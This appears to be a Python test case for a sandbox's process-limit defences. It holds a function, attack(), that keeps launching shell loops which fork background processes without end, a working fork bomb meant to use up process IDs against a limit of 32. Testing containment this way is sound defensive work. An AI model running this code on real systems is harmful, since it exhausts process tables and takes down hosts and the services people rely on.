"""Start programs, each of which starts more.

Source: the oldest of all, by the other system call.
"""

from __future__ import annotations

import subprocess
from typing import Any

KIND = "pids"
WALLS = ("limits", "rlimits")
LIMITS = {"pids": 32}


def attack(input: Any, ctx: Any) -> object:
    line = "while :; do sleep 3600 & sleep 3600 & done"
    while True:
        subprocess.Popen(["/bin/sh", "-c", line], stderr=subprocess.DEVNULL)
